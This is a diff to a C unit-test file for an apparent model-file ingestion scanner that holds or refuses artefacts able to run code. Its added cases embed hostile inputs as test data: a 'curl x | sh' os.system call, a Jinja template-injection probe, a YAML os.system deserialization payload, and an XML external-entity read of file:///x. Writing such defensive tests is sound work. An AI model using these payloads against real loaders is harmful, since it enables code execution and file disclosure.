@@ -501,8 +501,10 @@ static void an_opaque_file_is_sealed_without_a_roster(void **state)
 {
     world w = new_world();
     SL_OWN(int, fd, sl_fd_close) = memfd_create("data", MFD_CLOEXEC);
-    /* of no format that the scan knows */
-    assert_done(sl_fd_write_all(fd, SL_LIT("\x01\xE9\0\0\xFE\x9C\0\x01")));
+    /* of no format that the scan knows, but let in by operators */
+    sl_view bytes = SL_LIT("\x01\xE9\0\0\xFE\x9C\0\x01");
+    w.let_in = sl_sha256(bytes);
+    assert_done(sl_fd_write_all(fd, bytes));
     sl_ingest_world calls = calls_of(&w);
     sl_ingest_request request = request_for("model.bin", "");
     sl_ingest_result result;
@@ -513,6 +515,11 @@ static void an_opaque_file_is_sealed_without_a_roster(void **state)
     sl_buf_free(&w.leaves);
     sl_buf_free(&w.echo);
 }
+
+#define CASE(name, text, verdict, code)                                                            \
+    {                                                                                              \
+        name, text, sizeof(text) - 1, verdict, code                                                \
+    }
 
 /* Each is refused or held as what it is, whatever its name; nothing is sealed. */
 static void what_would_run_code_is_not_admitted(void **state)
@@ -536,6 +543,27 @@ static void what_would_run_code_is_not_admitted(void **state)
           "cacme.models\nNet\n.",
           20, "\"hold\"", SL_E_HELD },
         { "model.safetensors", "\xFF\0\0\0\0\0\0\0{}", 10, "\"refuse\"", SL_E_ARTEFACT },
+        /* of no format that anybody knows */
+        { "weights.dat", "\x01\xE9\0\0\xFE\x9C\0\x01", 8, "\"hold\"", SL_E_HELD },
+        /* text that is loaded, run or rendered */
+        CASE("train.py", "import torch\n", "\"hold\"", SL_E_HELD),
+        CASE("train.py", "import os\nos.system('curl x | sh')\n", "\"refuse\"", SL_E_ARTEFACT),
+        CASE("run", "#!/bin/sh\necho inert\n", "\"hold\"", SL_E_HELD),
+        CASE("analysis.R", "x <- 1\n", "\"hold\"", SL_E_HELD),
+        CASE(
+            "n.ipynb",
+            "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\": \"!make all\", \"outputs\": []}]}",
+            "\"hold\"", SL_E_HELD),
+        CASE("chat_template.jinja", "Hello {{ helper(1) }}", "\"hold\"", SL_E_HELD),
+        CASE("chat_template.jinja", "{{ ''.__class__ }}", "\"refuse\"", SL_E_ARTEFACT),
+        CASE("config.json", "{\"auto_map\": {\"AutoModel\": \"m.M\"}}", "\"refuse\"",
+             SL_E_ARTEFACT),
+        CASE("m.yaml", "a: !!python/object/apply:os.system [x]\n", "\"refuse\"", SL_E_ARTEFACT),
+        CASE("m.pkl", "cacme.models\nNet\n", "\"refuse\"",
+             SL_E_ARTEFACT), /* breaks off behind a name */
+        CASE("m.xml",
+             "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///x'>]><x>&e;</x>",
+             "\"refuse\"", SL_E_ARTEFACT),
     };
     for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
         world w = new_world();
